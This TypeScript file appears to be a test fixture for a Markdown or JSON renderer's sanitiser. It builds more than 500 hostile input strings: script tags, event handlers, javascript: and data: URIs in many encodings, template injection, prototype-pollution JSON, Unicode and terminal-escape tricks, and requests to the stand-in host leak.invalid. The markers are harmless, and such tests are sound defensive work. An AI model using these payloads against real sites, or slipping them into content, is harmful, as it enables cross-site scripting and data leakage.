// Strings that try to become more than text: each kind of attack, in each dress that Markdown or JSON could take off it.

/** What would be visible afterwards, whatever ran: a flag of the window, or a request to a host that does not exist. */
const act = "window.pwned=1";
const far = "https://leak.invalid/x";

const scripts = [
  `<script>${act}</script>`,
  `<script src="${far}.js"></script>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<script\n>${act}</script >`,
  `"><script>${act}</script>`,
  `'-(${act})-'`,
  `</textarea><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `<!--><script>${act}</script-->`,
  `<![CDATA[<script>${act}</script>]]>`,
  `<noscript><p title="</noscript><script>${act}</script>">`,
  `<svg><script>${act}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}></style></mglyph></table></mtext></math>`,
  `<template><script>${act}</script></template>`,
];

const handlers = [
  ["img src=x", "onerror"], ["svg", "onload"], ["body", "onload"], ["input autofocus", "onfocus"], ["details open", "ontoggle"],
  ["video src=x", "onerror"], ["audio src=x", "onerror"], ["marquee", "onstart"], ["select autofocus", "onfocus"],
  ["a href=# id=x tabindex=1", "onfocus"], ["div style=animation-name:x", "onanimationstart"], ["iframe", "onload"],
  ["object data=x", "onerror"], ["form", "onsubmit"], ["img src=x", "oNeRrOr"],
].map(([tag, handler]) => `<${tag} ${handler}=${act}>`);

const elements = [
  `<img src="${far}.png">`, `<img srcset="${far}.png 1x">`, `<image href="${far}.png">`, `<video poster="${far}.png">`,
  `<iframe src="javascript:${act}"></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<frameset><frame src="${far}">`,
  `<object data="${far}.swf"></object>`, `<embed src="${far}.swf">`, `<link rel=stylesheet href="${far}.css">`, `<link rel=preload as=script href="${far}.js">`,
  `<style>@import '${far}.css';</style>`, `<style>*{background:url(${far})}</style>`, `<meta http-equiv=refresh content="0;url=${far}">`,
  `<base href="${far}/">`, `<form action="${far}"><button>Send</button></form>`, `<portal src="${far}">`, `<input type=image src="${far}.png">`,
  `<svg><use href="${far}.svg#x"></use></svg>`, `<svg><image xlink:href="${far}.png"/></svg>`, `<div style="background:url(${far})">x</div>`,
  `<p style="position:fixed;inset:0;z-index:9999">covers all</p>`, `<x onclick=${act}>x</x>`, `<div id="app">clobbers</div>`, `<img name=cookie><img id=body>`,
  `<a href="javascript:${act}">x</a>`, `<a href="data:text/html,<script>${act}</script>">x</a>`, `<button popovertarget=settings>x</button>`,
];

const links = [
  `javascript:${act}`, `JaVaScRiPt:${act}`, `java\tscript:${act}`, `java&#10;script:${act}`, `&#106;avascript:${act}`, `javascript&colon;${act}`,
  `%6Aavascript:${act}`, `\u0001javascript:${act}`, `vbscript:${act}`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${act}>`, `blob:null/x`, `file:///etc/passwd`, `view-source:${far}`, `//leak.invalid/x`, `\\\\leak.invalid\\x`,
  `intent://x#Intent;end`, `about:blank`, `filesystem:${far}`, `ws://leak.invalid`,
].flatMap((address) => [`[x](${address})`, `[x](<${address}>)`, `![x](${address})`, `<${address}>`, `[x]\n\n[x]: ${address}`]);

const pictures = [`![x](${far}.png)`, `![x][r]\n\n[r]: ${far}.png`, `[![x](${far}.png)](${far})`, `![](${far}.svg "t")`, `![x](${far}.png =1x1)`];

const markdown = [
  "[x](x 'onmouseover=alert(1)')", `[x](" onmouseover="${act})`, "`<script>` and ```` ``` ````", "```html\n<script>window.pwned=1</script>\n```",
  "~~~<img src=x onerror=window.pwned=1>\nx\n~~~", "```\" onmouseover=\"window.pwned=1\nx\n```", "| <img src=x onerror=window.pwned=1> |\n|---|\n| <b>x</b> |",
  "- <script>window.pwned=1</script>\n  1. <svg onload=window.pwned=1>", "> <iframe src=javascript:window.pwned=1>", "# <img src=x onerror=window.pwned=1>",
  "<details><summary>x</summary><script>window.pwned=1</script></details>", "[^1]\n\n[^1]: <script>window.pwned=1</script>", "<http://x.invalid/\"onmouseover=window.pwned=1//>",
  "http://leak.invalid/<script>window.pwned=1</script>", "**<b onmouseover=window.pwned=1>x**", "\\<script>window.pwned=1</script>", "&lt;script&gt;window.pwned=1&lt;/script&gt;",
  "$$\\href{javascript:window.pwned=1}{x}$$", "<!-- --!><script>window.pwned=1</script> -->", "<a\nhref=javascript:window.pwned=1>x</a>",
];

const templates = ["{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "<%= window.pwned=1 %>", "#{window.pwned=1}", "{% raw %}", "[[${window.pwned=1}]]"];
const objects = ['{"__proto__":{"pwned":1}}', '{"constructor":{"prototype":{"pwned":1}}}', '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.pwned=1>"}}}', '{"__html":"<script>window.pwned=1</script>"}', '{"$$typeof":"x","type":"script"}', '{"vnode":{"type":"img","props":{"onerror":"window.pwned=1","src":"x"}}}'];
const characters = ["\u202e<script>window.pwned=1</script>", "\u0000<script>window.pwned=1</script>", "\ufeff<script>window.pwned=1</script>", "\u2028window.pwned=1\u2029", "\ud83d\ude00<svg onload=window.pwned=1>", "<\u200bscript>window.pwned=1</script>", "＜script＞window.pwned=1＜/script＞", "\x1b]8;;javascript:window.pwned=1\x07x\x1b]8;;\x07", "\x1b[31m<img src=x onerror=window.pwned=1>\x1b[0m", "%3Cscript%3Ewindow.pwned=1%3C/script%3E", "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-"];

const plain = [...scripts, ...handlers, ...elements, ...pictures, ...markdown, ...templates, ...objects, ...characters];
const dresses: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `**${text}**`,
  (text) => `- ${text}`,
  (text) => `[${text}](https://x.invalid)`,
];

/** At least 500, all different. */
export const hostile: readonly string[] = [...new Set([...links, ...plain.flatMap((text) => dresses.map((dress) => dress(text)))])];

/** `all` in groups of `size`. */
export function groups<T>(all: readonly T[], size: number): T[][] {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, at) => all.slice(at * size, (at + 1) * size));
}
